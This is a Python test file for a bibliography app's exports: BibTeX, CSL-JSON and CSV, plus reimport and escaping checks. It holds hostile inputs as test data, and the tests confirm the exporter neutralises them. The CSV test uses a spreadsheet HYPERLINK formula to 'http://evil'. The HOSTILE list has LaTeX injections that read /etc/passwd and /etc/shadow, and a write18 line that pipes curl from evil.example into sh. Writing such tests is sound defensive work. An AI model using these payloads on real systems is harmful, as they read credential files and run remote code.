"""Exports: an author's works as BibTeX, CSL-JSON and CSV, and an import batch's report as CSV."""

from __future__ import annotations

import csv
import io
import json

import bibtexparser

from ingest.formats import bibtex as bibtex_format
from ingest.formats import csl_json as csl_format
from ingest.models import ImportBatch
from papers.exports import authors_cut, bibtex_escape, works_bibtex
from papers.models import Authorship, Paper
from profiles.models import Author
from tests.api.conftest import client_for, make_author, make_user
from tests.ingest.helpers import import_bytes, import_file


def works_of(author: Author) -> list[Paper]:
    return list(Paper.objects.filter(authorships__author=author).prefetch_related("authorships"))


def expected_authors(paper: Paper) -> list[str]:
    return [a.name_as_written for a in sorted(paper.authorships.all(), key=lambda a: a.position)]


def test_sample_researcher_exports_round_trip_and_reimport_without_duplicates(
    db, client, django_capture_on_commit_callbacks, sample_dump
):
    """One import of a real sample dump (slow), then every check of the real-data exports."""
    import_file(django_capture_on_commit_callbacks, sample_dump("001"))  # a feed: titles, author lists
    researcher = Author.objects.filter(merged_into=None).order_by("-work_count", "pk").first()
    papers = {paper.slug: paper for paper in works_of(researcher)}
    assert len(papers) >= 10

    response = client.get(f"/api/v1/authors/{researcher.slug}/works.bib")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/x-bibtex; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{researcher.slug}.bib"'
    text = response.content.decode()

    # bibtexparser itself: every entry readable, one per paper, keyed by the paper's slug.
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == []
    assert sorted(entry.key for entry in library.entries) == sorted(papers)
    for entry in library.entries:
        year = entry.fields_dict.get("year")
        assert (year.value if year else None) == (
            str(papers[entry.key].year) if papers[entry.key].year else None
        )

    # Decoded (LaTeX -> text, `and` lists -> names) by our bibtexparser-based importer.
    parsed = bibtex_format.parse(text)
    assert parsed.errors == []
    by_title = {record.title: record for record in parsed.records}
    assert len(by_title) == len(papers)
    for paper in papers.values():
        record = by_title[paper.title]
        assert record.authors == expected_authors(paper)
        assert record.authors_truncated == authors_cut(paper)
        assert (record.date or "")[:4] == (str(paper.year) if paper.year else "")
        assert record.arxiv_id == paper.arxiv_id

    # CSL-JSON reads back through the CSL importer the same way.
    response = client.get(f"/api/v1/authors/{researcher.slug}/works.csl.json")
    assert response["Content-Type"] == "application/vnd.citationstyles.csl+json; charset=utf-8"
    assert len(json.loads(response.content)) == len(papers)
    csl = csl_format.parse(response.content.decode())
    assert csl.errors == []
    by_title = {record.title: record for record in csl.records}
    for paper in papers.values():
        assert by_title[paper.title].authors == expected_authors(paper)
        assert (by_title[paper.title].date or "")[:4] == (str(paper.year) if paper.year else "")

    # Importing the BibTeX export again finds every paper and person it names: nothing new.
    counts = (
        Paper.objects.count(),
        Author.objects.filter(merged_into=None).count(),
        Authorship.objects.count(),
    )
    batch = import_bytes(django_capture_on_commit_callbacks, text.encode(), "export.bib", format="bibtex")
    assert batch.status == ImportBatch.Status.DONE
    assert batch.total_records == len(papers)
    assert (batch.created_count, batch.failed_count, batch.review_count) == (0, 0, 0)
    after = (
        Paper.objects.count(),
        Author.objects.filter(merged_into=None).count(),
        Authorship.objects.count(),
    )
    # No paper, person or authorship is added. The block re-clustering that follows every import
    # may join two profiles the second look shows to be one person, never split or add one.
    assert (after[0], after[2]) == (counts[0], counts[2])
    assert after[1] <= counts[1]


def test_special_characters_survive_the_bibtex_round_trip(db):
    author = make_author("Ana María de la Cruz")
    tricky = [
        ("R&D at 50% off: #1 under_score {set}", ["Ana María de la Cruz", "Smith, Jr., John"]),
        (r"Bounds for $\mathcal{O}(n_1)$ and $p(x|y)$ cost $5", ["Ana María de la Cruz"]),
        (r"T\"ULU: LaTeX written by the source", ["Ana María de la Cruz", "danah boyd"]),
    ]
    for index, (title, names) in enumerate(tricky):
        paper = Paper.objects.create(
            title=title, slug=f"tricky-{index}", year=2021, abstract="Unbalanced { brace and 100% sure."
        )
        for position, name in enumerate(names):
            person = author if name == author.display_name else make_author(name.replace(",", ""))
            Authorship.objects.create(paper=paper, author=person, position=position, name_as_written=name)

    text = works_bibtex(works_of(author))
    assert bibtexparser.parse_string(text).failed_blocks == []
    parsed = {record.title: record for record in bibtex_format.parse(text).records}

    plain, with_math, latex = tricky
    assert parsed[plain[0]].authors == plain[1]
    assert parsed[with_math[0]].title == with_math[0]
    assert 'T\\"ULU' in text  # LaTeX from the source is passed on as LaTeX ...
    assert parsed["TÜLU: LaTeX written by the source"].authors == latex[1]  # ... and reads as TÜLU
    assert parsed[plain[0]].abstract == r"Unbalanced \{ brace and 100% sure."


def test_escaping_is_plain_latex():
    assert bibtex_escape("A & B_c 10% #1") == r"A \& B\_c 10\% \#1"
    assert bibtex_escape("keep $x_1$ math") == "keep $x_1$ math"
    # Characters that are markup in LaTeX but plain text here (no LaTeX command in sight).
    assert bibtex_escape("a \\ b ~ c ^ d") == r"a \textbackslash{} b \textasciitilde{} c \textasciicircum{} d"


def test_csv_export_has_one_row_per_work_and_defuses_formulas(db, client):
    author = make_author("Sheet Person")
    for index, title in enumerate(['=HYPERLINK("http://evil")', "Plain title, with a comma"]):
        paper = Paper.objects.create(
            title=title, slug=f"sheet-{index}", year=2020 + index, doi=f"10.1/{index}"
        )
        Authorship.objects.create(paper=paper, author=author, position=0, name_as_written="Sheet Person")

    response = client.get(f"/api/v1/authors/{author.slug}/works.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["title"] for row in rows] == ["Plain title, with a comma", '\'=HYPERLINK("http://evil")']
    assert rows[0]["authors"] == "Sheet Person"
    assert rows[0]["year"] == "2021"
    assert rows[0]["url"] == "https://doi.org/10.1/1"


def test_export_of_unknown_author_is_a_json_404(db, client):
    response = client.get("/api/v1/authors/nobody/works.bib")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert response.json()["code"] == "not_found"


def test_import_report_csv_lists_every_record_with_its_outcome(
    db, django_capture_on_commit_callbacks, django_user_model
):
    staff = make_user(django_user_model, "curator", staff=True)
    dump = b"@article{good,\n  title = {A good entry},\n  author = {Ann Author},\n  year = {2020},\n}\n" \
           b"@article{bad,\n  author = {No Title},\n  year = {2020},\n}\n"  # fmt: skip
    batch = import_bytes(django_capture_on_commit_callbacks, dump, "two.bib")

    response = client_for(staff).get(f"/api/v1/imports/{batch.pk}/report.csv")

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["status"] for row in rows] == ["created", "failed"]
    assert rows[0]["title"] == "A good entry" and rows[0]["paper"]
    assert rows[1]["line_start"] == "6" and "no title" in rows[1]["error"]


def _latex_macros(value: str) -> list[str]:
    """Every macro a LaTeX run would execute in ``value`` (pylatexenc's parser, not ours)."""
    from pylatexenc.latexwalker import LatexMacroNode, LatexWalker

    found: list[str] = []

    def walk(nodes) -> None:
        for node in nodes or []:
            if node is None:
                continue
            if node.isNodeType(LatexMacroNode):
                found.append(node.macroname)
            walk(getattr(node, "nodelist", None))
            arguments = getattr(node, "nodeargd", None)
            if arguments is not None and arguments.argnlist:
                walk(arguments.argnlist)

    walk(LatexWalker(value, tolerant_parsing=True).get_latex_nodes()[0])
    return found


HOSTILE = [
    r"\input{/etc/passwd}",
    r"Deep nets \immediate\write18{curl evil.example | sh}",
    r"T\"ULU \def\title{pwned}\title",
    r"Bounds for $\input{/etc/passwd}$ and $\mathcal{O}(n)$",
    r"^^5cinput{/etc/passwd} and \'e",
    r"\csname input\endcsname{/etc/shadow}",
    r"\catcode`\^^M=13 \include{x}",
    "Trailing backslash \\",
]
# What a careful export may leave for LaTeX to run: accents, formatting, escaped specials, math.
SAFE_MACROS = {
    '"', "'", "`", "^", "~", "=", ".", "&", "%", "$", "#", "_", "{", "}", "c", "emph",
    "textbackslash", "textasciicircum", "textasciitilde", "mathcal", "alpha",
}  # fmt: skip


def test_bibtex_export_never_passes_on_latex_commands_from_imported_text(db):
    author = make_author("Ada Lovelace")
    for index, hostile in enumerate(HOSTILE):
        paper = Paper.objects.create(
            title=hostile,
            slug=f"hostile-{index}",
            year=2021,
            kind="article",
            venue=hostile,
            abstract=f"Abstract: {hostile}",
            doi=f"10.1000/{index}\\input{{x}}^^5c",
        )
        Authorship.objects.create(paper=paper, author=author, position=0, name_as_written="Ada Lovelace")
        Authorship.objects.create(
            paper=paper, author=make_author(f"Eve {index}"), position=1, name_as_written=hostile
        )

    text = works_bibtex(works_of(author))
    library = bibtexparser.parse_string(text)
    assert library.failed_blocks == [] and len(library.entries) == len(HOSTILE)
    assert "^^" not in text
    for entry in library.entries:
        for field in entry.fields:
            run = set(_latex_macros(field.value)) - SAFE_MACROS
            assert not run, f"{entry.key}.{field.key} would run {run}: {field.value}"
        assert "\\" not in entry.fields_dict["doi"].value

    # The hostile text is still there to read, as text.
    titles = {record.title for record in bibtex_format.parse(text).records}
    assert any("input" in title and "/etc/passwd" in title for title in titles)


def test_allowed_latex_is_kept():
    assert bibtex_escape(r"\emph{Deep} T\"ULU \c{c}a $\alpha^2$") == r"\emph{Deep} T\"ULU \c{c}a $\alpha^2$"
    assert bibtex_escape(r"A \input{x} b") == r"A \textbackslash{}input{x} b"
